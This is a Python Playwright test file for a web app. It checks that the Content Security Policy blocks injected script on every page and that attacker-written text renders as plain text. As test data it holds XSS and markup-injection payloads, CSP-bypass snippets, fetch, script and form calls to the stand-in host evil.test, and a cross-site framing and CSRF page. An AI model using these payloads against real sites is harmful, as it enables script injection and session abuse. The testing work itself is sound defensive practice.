"""What a real browser lets happen on our pages: nothing that we did not write, on any page, in either theme."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from masteria.actions import imports, intake, sessions
from masteria.config import settings
from masteria.core.work import work_as
from masteria.enums import Direction
from masteria.kit.clock import now
from masteria.masteria import app as _app  # noqa: F401 — registers every screen
from masteria.models import Campaign, Contact, Conversation, Message
from masteria.ui import identity
from masteria.ui.screen import PAGES
from masteria.ui.texts import tr
from tests.cast import PASSWORD, Cast, a_connection, a_template, make_cast
from tests.rows import ids_by_name, one_of_everything

# importing the app read the settings, before the session's services had their addresses
settings.cache_clear()

# noted from the first moment of every document, before any script of the page
LISTEN = """window.seen = []; window.ran = [];
addEventListener('securitypolicyviolation', e =>
  window.seen.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber} ${e.sample}`));"""
THEMES = ("light", "dark")
RUN = "window.ran.push(1)"
# how a script that got into the page could try to run, each refused by the policy
WAYS = {
    "inline script": f"const s = document.createElement('script'); s.textContent = '{RUN}'; document.body.append(s)",
    "event attribute": f"document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror={RUN}>')",
    "javascript address": f"const a = document.createElement('a'); a.href = 'javascript:{RUN}'; document.body.append(a); a.click()",
    "evaluated text": f"(0, eval)('{RUN}')",
    "made function": f"new Function('{RUN}')()",
    "data module": f"await import('data:text/javascript,{RUN}')",
    "blob script": f"const s = document.createElement('script'); "
    f"s.src = URL.createObjectURL(new Blob(['{RUN}'])); document.body.append(s)",
    "another site's script": "const s = document.createElement('script'); s.src = 'http://evil.test/x.js'; document.body.append(s)",
    "a call to another site": "await fetch('http://evil.test/')",
    "a frame": "const f = document.createElement('iframe'); f.src = 'http://evil.test/'; document.body.append(f)",
    "another base": "const b = document.createElement('base'); b.href = 'http://evil.test/'; document.head.append(b)",
    "a form that posts elsewhere": "const f = document.createElement('form'); f.action = 'http://evil.test/'; "
    "f.method = 'post'; document.body.append(f); f.submit()",
}
EVIL = """<iframe src="{web}/login"></iframe><form action="{web}/auth/logout" method="post"><button>x</button></form>"""
HOSTILE = (
    "<script>window.ran.push(1)</script>",
    "<img src=x onerror=window.ran.push(2)>",
    "<iframe src='javascript:parent.ran.push(3)'></iframe>",
    "<form action=http://evil.test><input name=q></form>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<base href=http://evil.test/>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<svg onload=window.ran.push(9)><script>window.ran.push(9)</script></svg>",
    "[x](javascript:window.ran.push(10)) ![y](http://evil.test/x.png)",
    "${window.ran.push(11)} `${window.ran.push(11)}` {{window.ran.push(11)}}",
    "\\'); window.ran.push(12); ('",
    "</textarea></title></script><script>window.ran.push(13)</script>",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "a\u200bb\ufeffc\u0000d".replace("\u0000", ""),
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran.push(16)>",
)
# what of the body is neither React's nor ours: Reflex' own scripts and styles carry no address of evil.test and no `ran`
FOREIGN = """[...document.querySelectorAll('script, iframe, frame, form, style, meta, base, link, object, embed, img')]
  .map(node => node.outerHTML).filter(text => /evil\\.test|ran\\.push|display:none}<|mglyph/.test(text))"""


@pytest.fixture(scope="module")
def cast(services: None) -> Cast:
    return make_cast()


@pytest.fixture(scope="module")
def context(browser: Browser, web: str, cast: Cast) -> Iterator[BrowserContext]:
    """Ana's browser, that remembers what its pages were refused."""
    opened = browser.new_context(locale="pt-BR", viewport={"width": 1280, "height": 860}, reduced_motion="reduce")
    opened.set_default_timeout(8_000)
    opened.add_init_script(LISTEN)
    token = sessions.sign_in(cast.ana.email, PASSWORD)
    opened.add_cookies([{"name": identity.COOKIE, "value": token, "url": web}])
    yield opened
    opened.close()


@pytest.fixture
def page(context: BrowserContext) -> Iterator[Page]:
    opened = context.new_page()
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def ids(cast: Cast) -> dict[str, str]:
    return {name: str(value) for name, value in ids_by_name(one_of_everything(cast.ana)).items()}


def hostile_company(cast: Cast) -> dict[str, str]:
    """Every kind of text that somebody outside can write, in Ana's company."""
    connection = a_connection(cast.ana, name=HOSTILE[1][:100], address=HOSTILE[4][:60])
    found = {"connection_id": connection.id}
    for n, text in enumerate(HOSTILE):
        template = a_template(cast.ana, connection, name=f"{text} {n}", body=f"{text} {{{{1}}}}", rejected_reason=text)
        with work_as(cast.ana) as work:
            contact = work.add(Contact(phone=f"+55119876{n:05}", match_key=f"55119876{n:05}", name=text, tags=[text]))
            contact.attributes, contact.email = {text: text}, text
            work.session.flush()
            values = {"connection_id": connection.id, "contact_id": contact.id, "last_message_at": now()}
            thread = work.add(Conversation(**values, last_message_text=text, unread_count=1))
            work.session.flush()
            values = {"conversation_id": thread.id, "kind": "text", "created_at": now()}
            work.add(Message(**values, direction=Direction.INBOUND, text=" ".join(HOSTILE), payload={"name": text}))
            values = {"connection_id": connection.id, "template_id": template.id, "kind": "template"}
            campaign = work.add(Campaign(**values, name=text[:100], body=text, state_reason=text))
            imports.start(work, f"{text}.csv"[:250], f"{work.company_id.hex}-nowhere", {text: "phone"}, {})
            intake.take_in(work, connection.id, [json.dumps({"entry": [{"changes": [{"field": text}]}]}).encode()])
            work.session.flush()
            event_id = work.execute("select id from intake order by created_at desc limit 1").scalar_one()
        found |= {"template_id": template.id, "contact_id": contact.id, "conversation_id": thread.id}
        found |= {"campaign_id": campaign.id, "event_id": event_id}
    with work_as(cast.ana) as work:
        intake.close(work, [intake.Outcome(event_id, unknown=[HOSTILE[0]], errors=[" ".join(HOSTILE)[:400]])])
    known = {name: str(value) for name, value in ids_by_name(one_of_everything(make_cast().ana)).items()}
    return known | {name: str(value) for name, value in found.items()}


def address(route: str, ids: dict[str, str]) -> str:
    filled = re.sub(r"\[+(?:\.\.\.)?(\w+)\]+", lambda found: ids[found[1]], route)
    return "/nowhere" if route == "404" else "/" + filled.strip("/")


def ready(page: Page) -> None:
    """The page's state has come over its socket, and nothing loads any more."""
    page.wait_for_load_state("networkidle")
    expect(page.locator("main, .m-body, .door").first).to_be_visible()


def noted(page: Page) -> list[str]:
    """What was refused, as soon as there is something. Playwright's own waiting evaluates text, and is refused, too."""
    for _ in range(100):
        if seen := page.evaluate("window.seen"):
            return seen
        page.wait_for_timeout(50)
    return []


def test_no_page_asks_for_anything_that_it_may_not(page: Page, web: str, ids: dict[str, str]) -> None:
    assert len(PAGES) > 12
    refused: dict[str, list[str]] = {}
    words: list[str] = []
    page.on("console", lambda said: words.append(said.text) if "Content Security" in said.text else None)
    for theme in THEMES:
        page.emulate_media(color_scheme=theme)
        for route in PAGES:
            page.goto(web + address(route, ids))
            ready(page)
            if seen := page.evaluate("window.seen"):
                refused[f"{route} {theme}"] = seen
    assert refused == {}
    assert words == []


def test_what_opens_over_a_page_asks_for_nothing_either(page: Page, web: str) -> None:
    """Dialogs, menus and toasts write styles, and a toast is text from the server that Reflex would evaluate."""
    page.goto(f"{web}/channels")
    page.get_by_role("button", name=tr("pt_BR", "channels.new")).first.click()
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_role("button", name=tr("pt_BR", "channels.sync")).first.click()
    expect(page.locator("[data-sonner-toast]").first).to_be_visible()
    page.get_by_role("button", name=tr("pt_BR", "nav.profile")).first.click()
    expect(page.get_by_role("menu")).to_be_visible()
    assert page.evaluate("window.seen") == []


@pytest.mark.parametrize("way", WAYS)
def test_what_we_did_not_write_does_not_run(page: Page, web: str, way: str) -> None:
    page.goto(f"{web}/contacts")
    ready(page)
    # in a turn of its own: what the browser's debugger runs itself may evaluate
    page.evaluate(f"setTimeout(async () => {{ try {{ {WAYS[way]} }} catch {{}} }})")
    assert noted(page)
    assert page.evaluate("window.ran") == []


def test_a_page_of_another_site_can_neither_frame_ours_nor_post_to_it(browser: Browser, web: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.route("http://evil.test/**", lambda route: route.fulfill(content_type="text/html", body=EVIL.format(web=web)))
    posted: list[int] = []
    page.on("response", lambda answer: posted.append(answer.status) if answer.url.endswith("/auth/logout") else None)
    page.goto("http://evil.test/")
    frame = page.frames[1]
    assert frame.evaluate("document.body?.innerText ?? ''").strip() == "" or "chrome-error" in frame.url
    page.locator("form button").click()
    page.wait_for_load_state()
    assert posted == [403]
    context.close()


def test_hostile_words_are_words_on_every_page(page: Page, web: str, cast: Cast) -> None:
    """E09: a name, a message, a template, a file's name and cells, what a webhook brought."""
    ids = hostile_company(cast)
    found: dict[str, Any] = {}
    for route in PAGES:
        page.goto(web + address(route, ids))
        ready(page)
        page.evaluate("document.querySelectorAll('button[aria-expanded=false]').forEach(b => b.click())")
        ours = page.evaluate(FOREIGN)
        if ours or page.evaluate("window.ran.length + window.seen.length"):
            found[route] = (ours, page.evaluate("window.seen"))
    assert found == {}
    page.goto(f"{web}/contacts")
    expect(page.get_by_role("cell", name=HOSTILE[0]).first).to_be_visible()
